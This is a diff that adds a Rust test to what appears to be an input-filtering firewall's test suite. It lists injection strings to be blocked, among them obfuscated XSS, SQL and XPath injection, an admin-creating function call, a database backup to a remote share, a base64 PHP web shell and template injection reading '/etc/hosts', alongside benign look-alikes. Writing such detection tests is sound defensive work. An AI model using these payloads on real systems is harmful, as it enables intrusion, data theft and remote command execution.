@@ -208,3 +208,53 @@ fn a_payload_cut_at_its_first_equals_sign_is_inspected_whole() {
         assert!(!v.blocked, "{q} refused ({:?})", v.rule_ids());
     }
 }
+
+#[test]
+fn round9_lists_literals_joined_xpath_obfuscated_hosts_and_sql_splices() {
+    for (field, attack) in [
+        ("q", "s1=['java'+''+''+'scr'+'ipt'+':'+'aler'+'t'+'(1)'];"),
+        ("q", "'<scr'+'ipt>al'+'ert(1)</scr'+'ipt>'"),
+        ("id", "1'; exec('sel'+'ect * fr'+'om users')--"),
+        ("q", "count(/child::node())"),
+        ("user", "' and count(/@*)=1 and '1'='1"),
+        (
+            "user",
+            "x' or string-length(//user[1]/password)=8 or 'a'='b",
+        ),
+        ("url", "http://0x42.0x0000066.0x7.0x93/"),
+        ("url", "<a href=\"http://0102.0146.0007.00000223/\">x</a>"),
+        ("name", "' || myappadmin.adduser('admin', 'newpass') || '"),
+        ("id", "1or1=1"),
+        (
+            "q",
+            "BACKUP database master to disks='\\\\10.0.0.9\\share\\backupdb.dat'",
+        ),
+        (
+            "page",
+            "data:application/x-httpd-php;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
+        ),
+        (
+            "t",
+            "{% for key, value in config.iteritems() %}{{ key }}{% endfor %}",
+        ),
+        ("t", "{{ get_user_file(\"/etc/hosts\") }}"),
+        ("c", "<!--#printenv -->"),
+    ] {
+        blocked("query", field, attack);
+    }
+    for text in [
+        "const greeting = 'Hello, ' + name + '!';",
+        "label = \"total: \" + \"\" + count",
+        "count(items) returns the number of rows",
+        "the name (as written on the passport) must match",
+        "see http://93.184.216.34/ for the mirror",
+        "x = a || b || 'default'",
+        "backup database nightly to the NAS share",
+        "{% for item in cart.items %}{{ item.name }}{% endfor %}",
+        "Use {{ user.home }} in templates",
+        "<!-- printenv is a shell command -->",
+        "version 10or11 = both work",
+    ] {
+        benign("json", "comment", text);
+    }
+}
